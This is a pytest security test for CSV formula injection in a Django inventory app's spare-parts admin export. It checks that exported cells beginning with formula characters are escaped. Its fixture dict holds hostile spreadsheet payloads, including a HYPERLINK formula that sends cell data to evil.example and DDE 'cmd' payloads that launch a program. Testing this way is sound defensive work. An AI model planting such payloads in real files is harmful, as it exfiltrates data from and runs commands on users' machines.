"""Finding 1: CSV formula injection in the parts export."""

from __future__ import annotations

import csv
import io
import re

import pytest

from inventory.models import SparePart
from inventory.tests.factories import SparePartFactory
from tests.security.conftest import admin_session

pytestmark = [pytest.mark.live, pytest.mark.django_db(transaction=True, serialized_rollback=True)]

HOSTILE = {
    "=1+1-SS-M1-4": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+A-STL-M1-1": "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A-STL-M1-2": "+1+cmd|' /C calc'!A0",
    "B-STL-M1-3": "-2+3",
    "C-STL-M1-4": "\tTab first",
    "D-STL-M1-5": "\rReturn first",
}
COLUMNS = ("sku", "name", "category", "price", "stock", "min_stock")


def export(base, username) -> list[dict]:
    session, status = admin_session(base, username)
    assert status == 302
    page = session.get(f"{base}/admin/inventory/sparepart/export/", timeout=30)
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.text).group(1)
    form = {"csrfmiddlewaretoken": token, "format": "0", "resource": ""}
    form.update({f"sparepartresource_{column}": "on" for column in COLUMNS})
    response = session.post(f"{base}/admin/inventory/sparepart/export/", data=form, timeout=30)
    assert response.status_code == 200 and response.headers["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_no_exported_cell_starts_a_formula(actors):
    for sku, name in HOSTILE.items():
        SparePartFactory(sku=sku, name=name, category__name=f"=cat {sku}")

    rows = export(actors["manager"].base, actors["manager"].user.username)

    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    by_sku = {row["sku"]: row for row in rows}
    assert by_sku["'=1+1-SS-M1-4"]["name"] == "'" + HOSTILE["=1+1-SS-M1-4"]
    assert by_sku["B-STL-M1-3"]["name"] == "'-2+3"  # escaped by its first character only
    assert by_sku["B-STL-M1-3"]["price"] == f"{SparePart.objects.get(sku='B-STL-M1-3').price:.2f}"
